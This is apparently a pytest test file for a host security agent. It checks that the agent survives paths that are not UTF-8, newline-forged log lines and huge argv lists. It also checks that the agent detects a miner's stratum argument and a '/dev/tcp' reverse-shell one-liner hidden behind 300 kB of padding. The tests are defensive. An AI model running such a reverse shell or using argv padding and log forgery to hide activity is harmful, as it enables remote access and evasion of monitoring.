"""A tenant's text against the agent: paths that are not UTF-8, newlines in file names, and
command lines of hundreds of kilobytes (issue 13, defects 1, 6, 7 and 11).

What a user sees: the agent keeps running; every finding, on stdout and in findings_file,
is valid UTF-8 JSON whose strings give the tenant's bytes back; a log line is one line;
the agent's memory does not follow the tenant's argv; a miner behind argv padding is found.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.hostile.conftest import WORKSPACE, RunningAgent, Tenant

# bytes that are not UTF-8 in a directory name, as in the repro
BAD_DIR = b"bad\xff\xfedir"
MiB = 1024 * 1024


def raw(s: str) -> bytes:
    """The bytes a JSON string stands for (README, "Text that is not UTF-8")."""
    return s.encode("utf-8", "surrogateescape")


def metric(agent: RunningAgent, name: str) -> float:
    """The sum of a metric's samples on /metrics (0 when absent)."""
    status, body = agent.get("/metrics")
    assert status == 200
    total = 0.0
    for line in body.decode().splitlines():
        if line.startswith(name) and line[len(name)] in " {":
            total += float(line.rsplit(" ", 1)[1])
    return total


def wait_for(what: str, cond: Callable[[], bool], agent: RunningAgent, timeout: float = 15) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        assert agent.alive(), "the agent died:\n" + "".join(agent.stderr[-30:])
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def periodic_scans(agent: RunningAgent, n: int) -> None:
    """Wait until the agent has done `n` more periodic scans (alive throughout)."""
    start = metric(agent, "nodewarden_scans_total")
    wait_for(f"{n} scans", lambda: metric(agent, "nodewarden_scans_total") >= start + n, agent)


def rss(pid: int) -> int:
    """VmRSS of a process, in bytes."""
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"^VmRSS:\s+(\d+) kB", status, re.MULTILINE).group(1)) * 1024


def bad_path_binary(tenant: Tenant) -> bytes:
    """/tmp/nwtenant-*/bad\\xff\\xfedir/kw, a copy of sleep, as the tenant's."""
    d = os.fsencode(tenant.home) + b"/" + BAD_DIR
    os.mkdir(d)
    os.chown(d, tenant.uid, tenant.gid)
    exe = d + b"/kw"
    with open("/bin/sleep", "rb") as src, open(exe, "wb") as dst:
        dst.write(src.read())
    os.chmod(exe, 0o755)
    os.chown(exe, tenant.uid, tenant.gid)
    return exe


@pytest.mark.parametrize("io_encoding", [None, "utf-8"])
def test_a_path_that_is_not_utf8_is_reported_exactly_and_the_agent_lives_on(
        tenant, start_agent, tmp_path, io_encoding):
    """The issue's repro: a binary under a directory named with bytes that are not UTF-8,
    started in the background and reparented. Before, writing its finding to findings_file
    raised, and every periodic scan that re-judged it crashed the agent again."""
    findings_file = tmp_path / "findings.jsonl"
    record = tmp_path / "record.jsonl"
    agent = start_agent(f"scan_interval: 0.3\nfindings_file: {findings_file}\nbpf: 'off'\n",
                        "--record", str(record),
                        env={"PYTHONIOENCODING": io_encoding} if io_encoding else None)
    exe = bad_path_binary(tenant)
    # ("$d/kw" 60 & sleep 2) &: its parent exits and it is reparented
    tenant.spawn([b"/bin/sh", b"-c", b'"$0" 60 & sleep 0.5', exe])
    f = agent.finding(lambda f: f["rule"] == "exec-from-tmp" and raw(f["process"]["exe"]) == exe)
    assert raw(f["process"]["cmdline"][0]) == exe
    assert f["workspace"] == {"id": WORKSPACE}
    assert "\\udcff\\udcfe" in f["message"].encode("unicode_escape").decode()
    periodic_scans(agent, 4)

    assert agent.bad_lines == []
    lines = findings_file.read_bytes().splitlines()
    mine = [json.loads(line.decode("utf-8")) for line in lines]  # strict: valid UTF-8
    assert any(raw(x["process"]["exe"]) == exe for x in mine)
    # the JSON text carries the escape; an emoji or other valid text would stay as it is
    assert any(b"bad\\udcff\\udcfedir" in line for line in lines)

    # replay judges the recorded event again and gives the same bytes back
    recorded = [line for line in record.read_bytes().splitlines()
                if raw(json.loads(line.decode("utf-8"))["process"]["exe"]) == exe]
    assert recorded
    one = tmp_path / "one.jsonl"
    one.write_bytes(recorded[0] + b"\n")
    res = subprocess.run([sys.executable, "-m", "agent", "replay", str(one), "--format", "json"],
                         capture_output=True, check=False, timeout=60)
    assert res.returncode == 1, res.stderr.decode()
    replayed = [json.loads(line.decode("utf-8")) for line in res.stdout.splitlines()]
    assert [raw(x["process"]["exe"]) for x in replayed if x["rule"] == "exec-from-tmp"] == [exe]


def test_a_newline_in_a_protected_processes_path_does_not_forge_a_log_line(
        tenant, start_agent, tmp_path):
    """A file named `k\\n<fake log line>` run through an `sshd` symlink, outside any
    workspace: its comm is a protected name, and the PROTECTED log line names its path."""
    rules = tmp_path / "kill-tmp.yaml"
    rules.write_text("rules:\n  - id: kill-from-tmp\n    severity: high\n    action: kill\n"
                     "    match: {proc.exe: {prefix: [/tmp/]}}\n")
    forged = "2026-12-01 00:00:00,000 WARNING nodewarden: FORGED by the tenant"
    target = tenant.binary("k\n" + forged)
    (tenant.home / "sshd").symlink_to(target)
    agent = start_agent(f"rules: [{rules}]\nbpf: 'off'\nscan_interval: 0.3\n")
    # an empty marker value is no workspace: the node's own sshd would look like this
    p = tenant.spawn([str(tenant.home / "sshd"), "60"], env={"WORKSPACE_ID": ""})
    f = agent.finding(lambda f: f["process"]["pid"] == p.pid and f["outcome"] == "protected")
    assert f["reason"].endswith("k\n" + forged)  # in JSON, the newline is "\n"
    wait_for("the PROTECTED log line", lambda: any(
        "PROTECTED" in line and str(p.pid) in line for line in agent.stderr), agent)
    logged = "".join(agent.stderr)
    assert "\\n" + forged in logged
    assert not any(line.startswith(forged) for line in agent.stderr)


def tenant_argv(size: int) -> list[bytes]:
    """Arguments for `sh -c 'sleep 60'` adding up to `size` bytes: each starts with an
    emoji (so Python would hold it four bytes a character), then bytes that are not UTF-8."""
    per_arg = 120 * 1024  # under the kernel's 128 KiB per argument
    out = []
    while size > 0:
        n = min(per_arg, size)
        out.append("😀".encode() + b"\xff\xfe" * ((n - 4) // 2))
        size -= n
    return out


def test_memory_does_not_follow_the_tenants_argv(tenant, start_agent):
    """80 processes with ~256 KB of argv each took the agent from 167 MB to 1.4 GB. Now a
    command line keeps 32 KiB at most and the total is held to a budget, in the metrics."""
    agent = start_agent("bpf: 'off'\nscan_interval: 0.3\n")
    periodic_scans(agent, 2)
    before = rss(agent.proc.pid)
    procs = [tenant.spawn([b"/bin/sh", b"-c", b"sleep 60", b"sh", *tenant_argv(256 * 1000)])
             for _ in range(80)]
    periodic_scans(agent, 3)  # every one of them read, three times
    grown = rss(agent.proc.pid) - before
    print(f"agent RSS {before / MiB:.0f} MiB -> +{grown / MiB:.0f} MiB")
    assert all(p.poll() is None for p in procs)
    assert grown < 64 * MiB, f"the agent grew by {grown / MiB:.0f} MiB"
    assert metric(agent, "nodewarden_cmdlines_cut_total") >= 80
    held = metric(agent, "nodewarden_cmdline_bytes")
    # 80 head + tail pairs of 32 KiB, at most 4 bytes a character, and the rest of the node
    assert 0 < held < metric(agent, "nodewarden_cmdline_budget_bytes")
    assert held < 80 * 4 * 32 * 1024 + 16 * MiB


@pytest.mark.parametrize("bpf", [pytest.param("required", marks=pytest.mark.ebpf), "off"])
def test_a_miner_behind_300_kb_of_argv_padding_is_found(tenant, start_agent, request, bpf):
    """`-o stratum+tcp://...` after 300 kB of junk: the tail of the command line is kept
    and judged (from the exec event with eBPF, else the proc connector or a scan), and the
    cut is reported as such in the workspace."""
    if bpf == "required":
        request.getfixturevalue("ebpf")
    agent = start_agent(f"bpf: '{bpf}'\nscan_interval: 0.5\n")
    miner = tenant.binary("kthreadd", "/bin/sh")
    url = b"stratum+tcp://pool.example:3333"
    p = tenant.spawn([miner, b"-c", b"sleep 60", b"kthreadd", *tenant_argv(300 * 1000),
                      b"-o", url])
    rules = ("crypto-miner-args", "cmdline-truncated-in-workspace")

    def found() -> dict[str, dict]:
        return {f["rule"]: f for f in list(agent.all_findings)
                if f["process"]["pid"] == p.pid and f["rule"] in rules}

    wait_for("both findings", lambda: len(found()) == 2, agent)
    f = found()["crypto-miner-args"]
    assert f["outcome"] == "would_kill"
    assert f["process"]["cmdline"][-2:] == ["-o", url.decode()]
    assert f["process"]["cmdline_truncated"] is True
    assert f["process"]["cmdline_cut_bytes"] > 250 * 1000
    assert found()["cmdline-truncated-in-workspace"]["workspace"] == {"id": WORKSPACE}


def test_a_reverse_shell_behind_argv_padding_is_found(tenant, start_agent):
    """The one-liner after 300 kB of arguments that an `eval "$*"` would join: the last
    argument is kept whole in the tail, where the argument rule sees it."""
    agent = start_agent("bpf: 'off'\nscan_interval: 0.5\n")
    one_liner = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
    # `sleep 60; :` so that bash stays (a lone command would be exec'd in its place)
    p = tenant.spawn([b"/bin/bash", b"-c", b"sleep 60; :", b"x", *tenant_argv(300 * 1000),
                      one_liner])
    rules = ("reverse-shell-dev-tcp", "cmdline-truncated-in-workspace")

    def found() -> set[str]:
        return {f["rule"] for f in list(agent.all_findings)
                if f["process"]["pid"] == p.pid and f["rule"] in rules}

    wait_for("both findings", lambda: found() == set(rules), agent)
